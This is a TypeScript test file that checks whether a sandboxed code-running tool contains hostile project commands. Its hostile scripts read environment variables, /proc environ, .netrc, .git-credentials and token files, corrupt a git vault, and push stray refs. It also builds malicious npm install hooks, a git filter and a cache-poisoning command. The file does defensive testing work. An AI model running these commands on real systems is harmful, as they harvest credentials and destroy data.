import { mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import test from 'ava';
import { resolveCommit } from '../../src/git/base.ts';
import { mergeBranch } from '../../src/merge/merge-branch.ts';
import { copyCaches } from '../../src/run/caches.ts';
import { commitWork } from '../../src/run/commit.ts';
import type { RunContext } from '../../src/run/context.ts';
import { runHydration, runProjectCommand } from '../../src/run/shell.ts';
import { placeVault } from '../../src/vault/vault.ts';
import { openClone, openScene, type Scene } from '../helpers/hostile-clone.ts';
import { git, writeFiles, type TestRepository } from '../helpers/repository.ts';
import { openTestRun } from '../helpers/run.ts';

const canary = 'canary-7531-of-this-test';

/** Secrets where a worker has them: in its environment, in Aegis's home, beside it, and in the person's checkout. */
function withSecrets(run: RunContext, { root, path }: TestRepository): { run: RunContext; files: string[] } {
	const files = [join(root, 'home/door/secrets.json'), join(root, 'netrc'), join(path, '.env')];
	mkdirSync(join(root, 'home/door'), { recursive: true });
	for (const file of files) writeFileSync(file, canary);
	const { PATH } = process.env;
	const env = { PATH, GITHUB_TOKEN: canary, ASANA_TOKEN: canary, NPM_TOKEN: canary };
	return { run: { ...run, machine: { ...run.machine, env } }, files };
}

/** The names of all files of the vault, and what its refs say. */
function lookAtVault({ run }: Scene): string {
	const { path } = placeVault(run.machine.home, run.repository);
	return `${readdirSync(path, { recursive: true, encoding: 'utf8' }).sort().join('\n')}\n${git(path, 'for-each-ref')}`;
}

async function commitOnCard(scene: Scene): Promise<string> {
	const clone = await openClone(scene);
	writeFiles(clone.path, { 'work.txt': 'work\n' });
	await commitWork(scene.run, clone, 'Work');
	await clone.take();
	return (await resolveCommit(scene.run.repository, `refs/heads/${clone.branch}`)) ?? '';
}

/** A shell script that looks for what it should not have, and does to it what it can. */
function hostileScript(scene: Scene, files: readonly string[]): string {
	const { repository, run } = scene;
	const vault = placeVault(run.machine.home, run.repository).path;
	return [
		'env; cat /proc/*/environ 2>/dev/null | tr "\\0" "\\n"',
		...files.map((file) => `cat '${file}'`),
		`touch '${vault}/marker' '${vault}/objects/marker' '${repository.path}/marker'`,
		`rm -rf '${vault}/refs' '${vault}/objects/pack'; for f in '${vault}'/objects/??/*; do echo x >"$f"; done`,
		`git --git-dir='${vault}' update-ref refs/heads/marker HEAD`,
		`git push --quiet '${repository.remote}' HEAD:refs/heads/marker`,
		`git -C '${repository.path}' update-ref refs/heads/main HEAD`,
	].join('\n');
}

test('attack 12: git has no credential to give, and no address that holds one', async (t) => {
	const scene = await openScene(t, { remote: true });
	if (scene === null) return;
	const { repository } = scene;
	const secret = `https://person:${canary}@example.test/x.git`;
	git(repository.path, 'remote', 'add', 'other', secret);
	git(repository.path, 'config', 'credential.helper', `!echo password=${canary}; true`);
	git(repository.path, 'config', `url.${secret}.insteadOf`, 'https://example.test/');
	const clone = await openClone(scene);
	const { run } = withSecrets(scene.run, repository);
	const asked = 'printf "protocol=https\\nhost=example.test\\n\\n"';
	const lines = [
		`${asked} | GIT_TERMINAL_PROMPT=0 git credential fill`,
		'git remote -v; git config --list --show-origin; cat .git/config "$HOME"/.git-credentials "$HOME"/.netrc',
		'GIT_TRACE=1 GIT_TRACE_CURL=1 GIT_TERMINAL_PROMPT=0 git push https://example.test/ HEAD',
		'GIT_TRACE=1 git push origin HEAD; git ls-remote; exit 0',
	];

	const report = await runProjectCommand(run, `{ ${lines.join('\n')}\n} 2>&1`, clone.path);

	t.is(report.exitCode, 0, report.tail);
	t.regex(report.tail, /core\.bare=false/, 'it did look');
	t.notRegex(report.tail, /canary|person:|example\.test\/x|password=/);
	t.notRegex(report.tail, /remote\.git/);
});

test('attack 40: checks change neither the commit that lands nor the vault, and reach no token', async (t) => {
	const scene = await openScene(t, { remote: true });
	if (scene === null) return;
	const { repository } = scene;
	const head = await commitOnCard(scene);
	const { run, files } = withSecrets(scene.run, repository);
	// What it changes while it runs, it puts back: that it was tested is all it can lie about.
	const lie = 'echo changed >a.txt; echo hidden >b.txt; git checkout -q -- a.txt; exit 0';
	const config = { ...run.config, test_command: `{ ${hostileScript(scene, files)}\n} 2>&1; ${lie}` };
	const objects = join(placeVault(run.machine.home, run.repository).path, 'objects');

	const end = await mergeBranch({ ...run, config }, { message: 'Merge', head });

	if (end.kind !== 'landed') return t.fail(JSON.stringify(end));
	t.false(JSON.stringify(end).includes(canary));
	t.regex(end.checks?.tail ?? '', /No such file/);
	const remote = repository.remote ?? '';
	t.is(git(remote, 'show', 'main:a.txt'), 'one');
	t.deepEqual(git(remote, 'ls-tree', '--name-only', 'main').split('\n'), ['a.txt', 'check.sh', 'work.txt']);
	t.is(git(remote, 'rev-parse', 'main^2^{tree}'), git(repository.path, 'rev-parse', `${head}^{tree}`));
	t.is(git(remote, 'rev-parse', 'main'), end.merge.mainAfter);
	t.is(git(remote, 'branch', '--list', 'marker'), '');
	t.false(lookAtVault(scene).includes('marker'));
	t.false(readdirSync(repository.path).includes('marker'));
	t.is(git(join(objects, '..'), 'fsck', '--no-dangling'), '');
});

test('attack 40: checks that commit something else land nothing', async (t) => {
	const commit = 'git -c user.name=A -c user.email=a@example.test commit -q -a -m Evil';
	const scene = await openScene(t, {
		remote: true,
		config: { test_command: `echo changed >a.txt; ${commit}` },
	});
	if (scene === null) return;
	const { run, repository } = scene;
	const head = await commitOnCard(scene);
	const before = git(repository.remote ?? '', 'rev-parse', 'main');

	const end = await mergeBranch(run, { message: 'Merge', head });

	t.like(end, { kind: 'failed', code: 'TESTED_TREE_CHANGED' });
	t.is(git(repository.remote ?? '', 'rev-parse', 'main'), before);
	t.is(git(repository.path, 'rev-parse', 'main'), before);
});

test('attack 41: what a dependency runs at its installation sees no secret and leaves the vault as it is', async (t) => {
	const scene = await openScene(t);
	if (scene === null) return;
	const { repository } = scene;
	const clone = await openClone(scene);
	const { run, files } = withSecrets(scene.run, repository);
	writeFiles(clone.path, {
		'package.json': JSON.stringify({ name: 'a', version: '1.0.0', dependencies: { dep: 'file:dep' } }),
		'.npmrc': 'node-options=--require=./preload.cjs\n',
		'preload.cjs': 'require("fs").appendFileSync(__dirname + "/preloaded", "x");\n',
		'dep/package.json': JSON.stringify({
			name: 'dep',
			version: '1.0.0',
			scripts: { preinstall: 'sh hostile.sh', install: 'sh hostile.sh', postinstall: 'sh hostile.sh' },
		}),
		'dep/hostile.sh': `echo installed >>"$INIT_CWD/installed"\n${hostileScript(scene, files)}\nexit 0\n`,
	});
	const before = [lookAtVault(scene), git(repository.path, 'for-each-ref')];
	const install = 'npm install --offline --install-links --foreground-scripts --no-audit --no-fund 2>&1';

	const report = await runProjectCommand(run, install, clone.path);

	t.is(report.exitCode, 0, report.tail);
	t.regex(readFileSync(join(clone.path, 'installed'), 'utf8'), /installed/, 'its scripts did run');
	t.false(report.tail.includes(canary));
	t.deepEqual([lookAtVault(scene), git(repository.path, 'for-each-ref')], before);
	t.false(readdirSync(repository.path).includes('marker'));
	for (const file of files) t.is(readFileSync(file, 'utf8'), canary);
});

test('attack 41: packages run no scripts of their own unless the operator lets them, whatever the tree says', async (t) => {
	const scene = await openScene(t);
	if (scene === null) return;
	const clone = await openClone(scene);
	const scripts = Object.fromEntries(
		['preinstall', 'install', 'postinstall', 'prepare'].map((name) => [
			name,
			`echo ${name} >>"$INIT_CWD/ran"`,
		]),
	);
	writeFiles(clone.path, {
		'package.json': JSON.stringify({
			name: 'a',
			version: '1.0.0',
			scripts,
			dependencies: { dep: 'file:dep' },
		}),
		'.npmrc': 'ignore-scripts=false\n',
		'dep/package.json': JSON.stringify({ name: 'dep', version: '1.0.0', scripts }),
	});
	const install =
		'npm install --offline --install-links --no-audit --no-fund 2>&1 && test -d node_modules/dep';

	const { run } = withSecrets(scene.run, scene.repository);

	const report = await runHydration(run, install, clone.path);
	t.is(report.exitCode, 0, report.tail);
	t.false(readdirSync(clone.path).includes('ran'));

	const config = { ...run.config, install_scripts: true };
	const allowed = await runHydration({ ...run, config }, `rm -rf node_modules; ${install}`, clone.path);
	t.is(allowed.exitCode, 0, allowed.tail);
	t.regex(readFileSync(join(clone.path, 'ran'), 'utf8'), /postinstall/);
});

test('attack 43: what the commands of one card leave in home, caches and temporary folders, another’s do not find', async (t) => {
	const scene = await openScene(t);
	if (scene === null) return;
	const { run, repository } = scene;
	const first = await openClone(scene);
	const second = await openTestRun(t, repository, {
		sandbox: run.machine.sandbox,
		spec: { cardGid: '1002' },
	});
	const other = await openClone({ run: second });
	const folders = '"$HOME" "$HOME/.npm" "$HOME/.cache" /tmp /run /dev/shm "${XDG_CACHE_HOME:-/tmp}"';
	const plant = `mkdir -p "$HOME/.npm" "$HOME/.cache" node_modules; for d in ${folders} .; do touch "$d/planted"; done; touch ../planted`;
	await runProjectCommand(run, `${plant}; ls "$HOME"`, first.path);

	const found = await runProjectCommand(second, `ls -A ${folders} . .. 2>&1; true`, other.path);
	const again = await runProjectCommand(run, 'ls -A "$HOME/.npm"', first.path);

	t.notRegex(found.tail, /planted/);
	t.regex(found.tail, /task-1002/);
	// A card's own commands do: what was installed is there for the checks.
	t.regex(again.tail, /planted/);
});

test('attack 43: of a cache the operator keeps, each card has a copy of its own', async (t) => {
	const scene = await openScene(t);
	if (scene === null) return;
	const { repository } = scene;
	const cache = join(repository.root, 'cache');
	mkdirSync(cache);
	writeFileSync(join(cache, 'package.tgz'), 'as published\n');
	const open = (run: RunContext): RunContext => ({ ...run, machine: { ...run.machine, caches: [cache] } });
	const first = open(scene.run);
	const second = open(
		await openTestRun(t, repository, { sandbox: scene.run.machine.sandbox, spec: { cardGid: '1002' } }),
	);
	const [one, other] = [await openClone({ run: first }), await openClone({ run: second })];
	for (const [run, { path }] of [
		[first, one],
		[second, other],
	] as const)
		await copyCaches(run, path);

	const poison = `cd ${cache} && cat package.tgz && echo poisoned >package.tgz && touch planted`;
	const poisoned = await runProjectCommand(first, poison, one.path);
	const found = await runProjectCommand(second, `cat ${cache}/package.tgz; ls ${cache}`, other.path);

	t.deepEqual([poisoned.exitCode, poisoned.tail], [0, 'as published\n']);
	t.is(found.tail, 'as published\npackage.tgz\n');
	t.is(readFileSync(join(cache, 'package.tgz'), 'utf8'), 'as published\n');
	t.deepEqual(readdirSync(cache), ['package.tgz']);
	const again = await runProjectCommand(first, `cat ${cache}/package.tgz`, one.path);
	t.is(again.tail, 'poisoned\n', 'its own stays with the card');
});

test('attack 43: what git of one card’s clone is set up to leave in its home, git of another’s does not read', async (t) => {
	const scene = await openScene(t);
	if (scene === null) return;
	const { run, repository } = scene;
	const first = await openClone(scene);
	const plant =
		'mkdir -p /home/run/.config/git && echo "*" >/home/run/.config/git/ignore && touch .git/planted; cat';
	git(first.path, 'config', 'filter.evil.clean', plant);
	writeFiles(first.path, { '.git/info/attributes': '* filter=evil\n', 'work.txt': 'work\n' });
	await commitWork(run, first, 'Work');
	t.true(readdirSync(join(first.path, '.git')).includes('planted'), 'the filter did run');

	const second = await openTestRun(t, repository, {
		sandbox: run.machine.sandbox,
		spec: { cardGid: '1002' },
	});
	const other = await openClone({ run: second });
	writeFiles(other.path, { 'new.txt': 'new\n' });
	t.like(await commitWork(second, other, 'New'), { kind: 'committed' });
});
